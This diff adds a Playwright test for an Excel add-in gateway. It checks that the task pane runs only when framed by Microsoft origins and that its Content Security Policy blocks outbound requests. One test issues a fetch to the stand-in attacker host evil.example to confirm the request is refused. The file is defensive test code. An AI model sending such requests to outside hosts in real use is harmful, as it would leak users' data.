@@ -1,0 +1,148 @@
+import { existsSync } from 'node:fs';
+import { mkdtemp, rm } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { type Browser, chromium, type Frame, type Page } from 'playwright-core';
+import { DEFAULT_PROFILE } from '../../src/contract/profile';
+import { selfSignedCertificate } from '../../src/gateway/certificate';
+import { OFFICE_JS_HOST } from '../../src/gateway/pages/page-headers';
+import { type RunningGateway, startGateway } from '../../src/gateway/start-gateway';
+import { findChromium } from '../support/workbench-driver';
+
+const OFFICE_JS = path.resolve('node_modules/@microsoft/office-js/dist');
+/** As Excel on the web opens an add-in. Without it Office.js takes a frame for an attack and empties it. */
+const IN_EXCEL = '?_host_Info=Excel$Web$16.00$en-US$$$isDialog$';
+
+let dataDir: string;
+let gateway: RunningGateway;
+let browser: Browser;
+beforeAll(async () => {
+  dataDir = await mkdtemp(path.join(os.tmpdir(), 'rr-frames-'));
+  gateway = await startGateway({
+    port: 0,
+    dataDir,
+    certificate: await selfSignedCertificate(dataDir),
+    service: { baseUrl: 'http://127.0.0.1:1', authUrl: 'http://127.0.0.1:1', audienceUrl: 'a' },
+    profile: DEFAULT_PROFILE,
+    // As in production: Office.js comes from Microsoft's address.
+    folders: { addin: path.resolve('dist/addin') },
+    logger: false,
+  });
+  browser = await chromium.launch({
+    executablePath: findChromium(),
+    // The framing pages are of no real network, which is not what is tested.
+    args: ['--no-sandbox', '--disable-gpu', '--disable-features=LocalNetworkAccessChecks'],
+  });
+});
+afterAll(async () => {
+  await browser?.close();
+  await gateway?.close();
+  await rm(dataDir, { recursive: true, force: true });
+});
+
+interface Framed {
+  page: Page;
+  /** The innermost frame, where the add-in is or is not. */
+  frame: Frame;
+  /** What a policy refused, in any frame. */
+  violations: string[];
+  /** The files of Office.js that were loaded. */
+  loaded: string[];
+}
+
+/** The add-in in a page of the last of these origins, which is in one of the origin before, and so on. */
+async function frameIn(origins: readonly string[]): Promise<Framed> {
+  const context = await browser.newContext({ ignoreHTTPSErrors: true });
+  const [violations, loaded]: [string[], string[]] = [[], []];
+  context.on('console', (message) => {
+    if (message.text().includes('Content Security Policy')) violations.push(message.text());
+  });
+  await context.route(`${OFFICE_JS_HOST}/**`, (route) => {
+    const name = new URL(route.request().url()).pathname.replace('/lib/1/hosted/', '');
+    loaded.push(name);
+    const file = path.join(OFFICE_JS, name);
+    return existsSync(file) ? route.fulfill({ path: file }) : route.fulfill({ status: 404 });
+  });
+  const addresses = [
+    ...origins.map((origin) => `${origin}/frame`),
+    `${gateway.url}/addin/taskpane.html${IN_EXCEL}`,
+  ];
+  for (const [index, origin] of origins.entries())
+    await context.route(`${origin}/frame`, (route) =>
+      route.fulfill({
+        contentType: 'text/html',
+        body: `<!doctype html><iframe src="${addresses[index + 1]}"></iframe>`,
+      }),
+    );
+  const page = await context.newPage();
+  await page.goto(addresses[0] as string);
+  const innermost = () => page.frames()[origins.length];
+  await waitUntil(() => !['', 'about:blank'].includes(innermost()?.url() ?? ''));
+  const frame = innermost() as Frame;
+  await frame.waitForLoadState('load');
+  return { page, frame, violations, loaded };
+}
+
+/** Resolves when the add-in's own script has given its functions to Office.js. */
+const runs = (frame: Frame) =>
+  frame.waitForFunction(
+    'typeof CustomFunctions === "object" && "QUERY" in CustomFunctions._association.mappings',
+  );
+
+const CLOSED = 'chrome-error://chromewebdata/';
+
+describe('the pane in a frame', () => {
+  it.each([
+    [['https://excel.officeapps.live.com']],
+    [['https://excel.cloud.microsoft']],
+    [['https://contoso.sharepoint.com', 'https://euc-excel.officeapps.live.com']],
+    [['https://onedrive.live.com', 'https://excel.officeapps.live.com']],
+  ])('opens in a page of %j, and runs there with Office.js', async (origins) => {
+    const { page, frame, violations } = await frameIn(origins);
+    await runs(frame);
+    expect(await frame.evaluate(() => fetch('/gateway/profile').then(({ status }) => status))).toBe(200);
+    expect(violations).toEqual([]);
+    await page.context().close();
+  });
+
+  it.each([
+    [['https://evil.example']],
+    [['https://officeapps.live.com.evil.example']],
+    [['https://evil.example', 'https://excel.officeapps.live.com']],
+  ])('does not open in a page of %j', async (origins) => {
+    const { page, frame } = await frameIn(origins);
+    expect(frame.url()).toBe(CLOSED);
+    await page.context().close();
+  });
+
+  it('loads all that Office.js needs in Excel on the web, with nothing refused', async () => {
+    const { page, frame, violations, loaded } = await frameIn(['https://excel.officeapps.live.com']);
+    await waitUntil(() => loaded.includes('en-us/office_strings.js'));
+    await runs(frame);
+    expect(loaded).toEqual(expect.arrayContaining(['office.js', 'excel-web-16.00.js']));
+    expect(violations).toEqual([]);
+    await page.context().close();
+  });
+
+  it('can send nothing to another origin', async () => {
+    const { page, frame, violations } = await frameIn(['https://excel.officeapps.live.com']);
+    await runs(frame);
+    const outcome = await frame.evaluate(() =>
+      fetch('https://evil.example/?rent=1').then(
+        () => 'sent',
+        () => 'refused',
+      ),
+    );
+    expect(outcome).toBe('refused');
+    expect(violations.join('\n')).toMatch(/https:\/\/evil\.example\/\?rent=1.*connect-src 'self'/);
+    await page.context().close();
+  });
+});
+
+async function waitUntil(isTrue: () => boolean): Promise<void> {
+  const end = Date.now() + 60_000;
+  while (!isTrue()) {
+    if (Date.now() > end) throw new Error('It did not come to that within a minute.');
+    await new Promise((resolve) => setTimeout(resolve, 20));
+  }
+}
